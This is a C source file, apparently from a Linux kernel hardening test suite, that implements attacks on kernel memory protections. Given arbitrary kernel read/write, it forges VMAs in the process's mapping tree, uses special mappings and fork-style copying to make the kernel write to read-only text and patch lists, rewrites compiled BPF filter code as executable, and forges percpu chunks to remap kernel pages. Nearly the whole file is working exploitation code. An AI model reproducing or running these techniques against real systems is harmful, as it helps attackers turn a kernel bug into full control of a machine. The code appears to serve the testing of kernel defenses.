// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on what is found by its kernel address: the kernel is made to map
 * another page there. Here it is a page of the list of what text is to be patched,
 * which is believed because of where it is.
 */
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "filter.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
/* Nodes of the tree of mappings: parent, last addresses of entries, entries. */
#define TREE_SIZE	256	/* of mm_struct, that begins with it */
#define NODE_WORDS	32
#define NODE_ALIGN	256UL
#define NODE_TYPE(node)	((node) >> 3 & 15)
#define NODE_LEAF	1
#define NODE_INNER	3
#define IS_ROOT(word)	(((word) & 7) == 6)
#define ENTRIES_LEAF	16
#define ENTRIES_INNER	10

#define VM_LOCKED	0x2000UL	/* nobody looks for who maps it */
#define REFERENCES	8
#define SPECIAL_OPS	"special_mapping_vmops"

/* struct pcpu_chunk, with a vector of memory cgroups ahead of the numbers or without */
#define CHUNKS		"pcpu_chunk_lists"
#define UNIT_OFFSETS	"pcpu_unit_offsets"
#define EMPTY_PAGES	"pcpu_nr_empty_pop_pages"
#define PAGE_SLOT	10		/* lists of chunks with a page and more */
#define LIST_SIZE	16
#define CHUNK_NEXT	0
#define CHUNK_PREV	8
#define CHUNK_BASE	64
#define CHUNK_PAGES	(is_since(7, 3) ? 108 : 112)
#define CHUNK_PAGES_MEMCG (is_since(7, 3) ? 108 : 120)
#define FEW_PAGES	1		/* the kernel maps more of them */
#define TRIES		10
#define PAUSE		50000		/* microseconds */

static uint64_t find_root(uint64_t mm)
{
	uint64_t words[TREE_SIZE / sizeof(uint64_t)];
	size_t i;

	kread(mm, words, sizeof(words));
	for (i = 0; i < TREE_SIZE / sizeof(*words); i++)
		if (is_kernel_address(words[i]) && IS_ROOT(words[i]))
			return words[i];
	return 0;
}

/* Where a node says what is at an address. */
static uint64_t find_entry(uint64_t node, uint64_t addr)
{
	int entries = NODE_TYPE(node) == NODE_INNER ? ENTRIES_INNER : ENTRIES_LEAF, i;
	uint64_t words[NODE_WORDS];

	if (kread(node & -NODE_ALIGN, words, sizeof(words)))
		return 0;
	for (i = 1; i < entries && words[i] && words[i] < addr; i++)
		;
	return (node & -NODE_ALIGN) + (entries + i - 1) * sizeof(*words);
}

uint64_t find_empty_entry(uint64_t mm, uint64_t addr)
{
	uint64_t node = find_root(mm), entry;

	while (node && is_kernel_address(node)) {
		entry = find_entry(node, addr);
		if (NODE_TYPE(node) == NODE_LEAF)
			return kread64(entry) ? 0 : entry;
		node = kread64(entry);
	}
	return 0;
}

/* But for where it is, and what an entry there may do. */
uint64_t forge_vma(const volatile void *like, uint64_t addr, uint64_t protection)
{
	uint64_t words[VMA_SIZE / sizeof(uint64_t)], vma = find_vma(like);
	struct kernel_page forged;

	if (!vma || kread(vma, words, sizeof(words)) || !kernel_page(&forged))
		return 0;
	words[0] = addr & -PAGE_SIZE;
	words[1] = words[0] + PAGE_SIZE;
	words[VMA_PROT / sizeof(*words)] = protection;
	return kwrite(forged.addr, words, sizeof(words)) ? 0 : forged.addr;
}

bool make_special(uint64_t vma, uint64_t phys)
{
	uint64_t like = find_vma((void *)getauxval(AT_SYSINFO_EHDR)), ops, data;
	uint64_t page = memory_map_base() + phys / PAGE_SIZE * STRUCT_PAGE;
	struct kernel_page mapping;

	ops = find_word(like, VMA_SIZE, ksymbol(SPECIAL_OPS));
	data = find_pointer_into(like, VMA_SIZE, ksymbol(VDSO), SPECIAL_MAPPINGS);
	if (!like || !vma || !ops || !data || !kernel_page(&mapping))
		return false;
	kwrite64(mapping.addr + SPECIAL_PAGES, mapping.addr + SPECIAL_MAPPINGS);
	kwrite64(mapping.addr + SPECIAL_MAPPINGS, page);
	return !kwrite64(vma + (ops - like), kread64(ops)) &&
	       !kwrite64(vma + (data - like), mapping.addr);
}

/* By a fault that reads, of a special mapping of one page. */
bool map_address(uint64_t addr, uint64_t phys, uint64_t protection)
{
	uint64_t vma = forge_vma((void *)getauxval(AT_SYSINFO_EHDR), addr, protection), entry;
	char byte;
	struct iovec to = { &byte, 1 }, from = { (void *)addr, 1 };
	struct task task;
	struct slot slot;

	if (ktask(0, &task) || !make_special(vma, phys))
		return false;
	entry = find_empty_entry(task.mm, addr);
	if (!entry)
		return false;
	kwrite64(entry, vma);
	process_vm_readv(getpid(), &to, 1, &from, 1, 0);
	kwrite64(entry, 0);
	return !kwalk(addr, LEAF, 0, &slot) && slot.value && (slot.phys & -PAGE_SIZE) == phys;
}

static uint64_t forge_locked_vma(uint64_t addr, uint64_t protection)
{
	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t vma;

	page[0] = 1;
	vma = forge_vma(page, addr, protection);
	if (!vma || kwrite64(vma + VMA_FLAGS, kread64(vma + VMA_FLAGS) | VM_LOCKED))
		return 0;
	return vma;
}

/* By a process with our mappings that can be killed: ours are to be put back. */
static void write_mapping(uint64_t start, char *copy, bool unmap)
{
	struct iovec from = { copy, PAGE_SIZE }, to = { (void *)start, PAGE_SIZE };
	pid_t self = getpid(), pid = vfork();

	if (!pid) {
		if (unmap)
			madvise((void *)start, PAGE_SIZE, MADV_DONTNEED_LOCKED);
		process_vm_writev(self, &from, 1, &to, 1, 0);
		_exit(0);
	}
	waitpid(pid, NULL, 0);
}

/* Nobody frees it, and it may be unmapped once. */
static void keep_page(uint64_t page)
{
	int mapped;

	add_reference(page, REFERENCES);
	if (!kread(page + PAGE_MAPCOUNT, &mapped, sizeof(mapped)))
		kwrite(page + PAGE_MAPCOUNT, &(int){ mapped + 1 }, sizeof(mapped));
}

/* The kernel gives up the page that it had there, and may free the new one. */
static bool write_as_ours(uint64_t addr, void *data, size_t len, bool unmap,
			  uint64_t protection)
{
	uint64_t vma = forge_locked_vma(addr, protection), start = addr & -PAGE_SIZE, entry;
	char copy[PAGE_SIZE];
	struct task task;

	if (!vma || ktask(0, &task) || kread(start, copy, sizeof(copy)))
		return false;
	entry = find_empty_entry(task.mm, addr);
	if (!entry)
		return false;
	memcpy(copy + addr % PAGE_SIZE, data, len);
	keep_page(page_of(addr));
	kwrite64(entry, vma);
	write_mapping(start, copy, unmap);
	kwrite64(entry, 0);
	add_reference(page_of(addr), REFERENCES);
	return true;
}

static bool write_by_fault(uint64_t addr, void *data, size_t len)
{
	return write_as_ours(addr, data, len, false, PTE_KERNEL_RW);
}

static bool write_by_zap(uint64_t addr, void *data, size_t len)
{
	return write_as_ours(addr, data, len, true, PTE_KERNEL_RW);
}

static enum outcome patch_by_own_page(bool (*store)(uint64_t addr, void *data, size_t len))
{
	struct slot slot;

	stay_on_cpu(0);
	if (kwalk(patched_entry(), LEAF, 0, &slot))
		return broken("the kernel has no list of what is to be patched");
	if (slot.level != LEVEL_PTE)
		return skipped("what is read-only is not mapped by pages");
	if (pte_is_writable(slot.value))
		return broken("an attack was here before");
	return patch_by_own_entry(store);
}

/*
 * The attacker's own list of mappings gets one more, above user space, and the
 * kernel writes to it for him: nobody asks whether it is in user space when the
 * kernel itself looks it up. What is read-only there is copied as after fork().
 */
enum outcome fault_kernel_address(void)
{
	return patch_by_own_page(write_by_fault);
}

/* What can be written would not be copied. So it is unmapped first. */
enum outcome zap_kernel_address(void)
{
	return patch_by_own_page(write_by_zap);
}

/* A compiled filter is read-only, too, and the kernel runs what is at its address. */
enum outcome fault_filter_address(void)
{
	struct filter filter;

	stay_on_cpu(0);
	if (!filter_open(&filter))
		return broken("no compiled filter was found");
	if (!write_as_ours(filter.code, &filter.patched, sizeof(filter.patched), false,
			   pte_make_executable(PTE_KERNEL_RW)))
		return broken("no mapping of the filter's page was made");
	return filter_judge(&filter, 0);
}

static void link_chunk(uint64_t chunk, uint64_t list)
{
	uint64_t next = kread64(list + CHUNK_NEXT);

	kwrite64(chunk + CHUNK_NEXT, next);
	kwrite64(chunk + CHUNK_PREV, list);
	kwrite64(next + CHUNK_PREV, chunk);
	kwrite64(list + CHUNK_NEXT, chunk);
}

static void unlink_chunk(uint64_t chunk)
{
	uint64_t next = kread64(chunk + CHUNK_NEXT), prev = kread64(chunk + CHUNK_PREV);

	kwrite64(prev + CHUNK_NEXT, next);
	kwrite64(next + CHUNK_PREV, prev);
}

static uint64_t unit_offset(int cpu)
{
	return kread64(kread64(ksymbol(UNIT_OFFSETS)) + cpu * sizeof(uint64_t));
}

static uint64_t page_at(uint64_t addr)
{
	struct slot slot;

	return !kwalk(addr, LEAF, 0, &slot) && slot.value & PTE_PRESENT ? slot.page : 0;
}

/* Of other CPUs a page is mapped as well, behind this one. */
static bool are_others_mapped(uint64_t addr, bool mapped)
{
	int cpu, nr = sysconf(_SC_NPROCESSORS_CONF);

	for (cpu = 1; cpu < nr; cpu++)
		if (mapped != !!page_at(addr + unit_offset(cpu) - unit_offset(0)))
			return false;
	return true;
}

/* Of one page for each CPU, which is not there yet, and with no room for anybody. */
static uint64_t forge_chunk(uint64_t addr)
{
	struct kernel_page chunk;
	const int one = 1;

	if (!kernel_page(&chunk))
		return 0;
	kwrite64(chunk.addr + CHUNK_BASE, addr - unit_offset(0));
	kwrite(chunk.addr + CHUNK_PAGES, &one, sizeof(one));
	kwrite(chunk.addr + CHUNK_PAGES_MEMCG, &one, sizeof(one));
	return chunk.addr;
}

/* A process has memory of each CPU. Where there is little left more is mapped. */
static void use_percpu_memory(void)
{
	const int few = FEW_PAGES;
	pid_t pid;

	kwrite(ksymbol(EMPTY_PAGES), &few, sizeof(few));
	pid = fork();
	if (!pid)
		_exit(0);
	waitpid(pid, NULL, 0);
	usleep(PAUSE);
}

/* Where a page is in the way the kernel gives up, and unmaps it. Next time none is. */
static bool map_percpu_page(uint64_t addr, uint64_t chunk)
{
	uint64_t old = page_at(addr), page = old;
	int i, nr;

	if (kread(ksymbol(EMPTY_PAGES), &nr, sizeof(nr)))
		return false;
	link_chunk(chunk, kread64(ksymbol(CHUNKS)) + PAGE_SLOT * LIST_SIZE);
	for (i = 0; i < TRIES && (!page || page == old || !are_others_mapped(addr, true)); i++) {
		use_percpu_memory();
		page = page_at(addr);
	}
	unlink_chunk(chunk);
	kwrite(ksymbol(EMPTY_PAGES), &nr, sizeof(nr));
	return page && page != old;
}

/* What is in it stays as it is. */
static bool replace_page(uint64_t addr, bool *is_replaced)
{
	uint64_t chunk = forge_chunk(addr);
	char copy[PAGE_SIZE];

	if (!chunk || !are_others_mapped(addr, false) || kread(addr, copy, sizeof(copy)))
		return false;
	*is_replaced = map_percpu_page(addr, chunk);
	return !*is_replaced || !kwrite(addr, copy, sizeof(copy));
}

static bool write_by_chunk(uint64_t addr, void *data, size_t len)
{
	static bool is_tried, is_replaced;

	if (!is_tried && !replace_page(addr & -PAGE_SIZE, &is_replaced))
		return false;
	is_tried = true;
	if (is_replaced)
		kwrite(addr, data, len);
	return true;
}

/* Memory of each CPU is mapped where a chunk says that it is. */
enum outcome percpu_chunk(void)
{
	return patch_by_own_page(write_by_chunk);
}
#else
enum outcome fault_kernel_address(void)
{
	return skipped("a process has no tables of kernel addresses on this architecture");
}

enum outcome zap_kernel_address(void)
{
	return skipped("a process has no tables of kernel addresses on this architecture");
}

enum outcome fault_filter_address(void)
{
	return skipped("a process has no tables of kernel addresses on this architecture");
}

enum outcome percpu_chunk(void)
{
	return skipped("the kernel's list of places is not mapped by pages");
}
#endif
